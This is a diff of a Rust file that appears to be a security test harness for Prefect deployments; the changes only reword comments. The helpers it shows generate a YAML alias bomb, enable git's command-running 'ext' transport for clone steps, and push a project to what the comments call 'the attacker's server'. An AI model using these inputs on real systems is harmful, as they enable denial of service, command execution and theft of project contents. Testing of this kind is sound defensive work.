@@ -1,4 +1,4 @@
-//! Files that are too large, too deep, or lead elsewhere.
+//! Files that are too large or too deeply nested, and links that lead out of the project.
 
 use std::fmt::Write as _;
 
@@ -8,11 +8,11 @@ const MEGABYTE: usize = 1 << 20;
 const CHECK: &str = "check";
 const DEPLOY: &str = "deploy --all";
 
-/// A line of YAML whose every level stands for ten of the one before.
+/// Returns YAML in which each level refers to the previous level ten times.
 fn bomb(first: &str, last: fn(usize) -> String) -> String {
     let mut text = format!("bomb:\n- &a0 {first}\n");
     for level in 1..40 {
-        // Writing to a text cannot fail.
+        // Writing to a string never fails.
         let _ = writeln!(text, "- &a{level} {}", last(level - 1));
     }
     text
@@ -22,7 +22,7 @@ fn flow(body: &str) -> String {
     format!("from prefect import flow\n\n{body}\n\n@flow\ndef hello(a=x):\n    pass\n")
 }
 
-/// A deployment that pulls a repository with these inputs.
+/// Adds a deployment that clones a repository with these inputs.
 fn clone(target: Target, inputs: &str) -> anyhow::Result<Target> {
     let target = target.variable("GIT_ALLOW_PROTOCOL", "file:http:https:ssh:ext");
     target.project(&format!("  pull:\n  - prefect.deployments.steps.git_clone: {inputs}"))
@@ -33,7 +33,7 @@ const PUSH: &str = "steps run --push -n a";
 
 const BUILD: &str = "  build:\n  - prefect_docker.deployments.steps.build_docker_image: {image_name: a, dockerfile: auto, tag: auto}";
 
-/// A deployment that pushes its project to the server's own address, into this folder.
+/// Adds a deployment that pushes the project to this folder on the attacker's server.
 fn push(target: Target, folder: &str) -> anyhow::Result<Target> {
     let store = target.server.url().replace("/api", "");
     let step = format!(
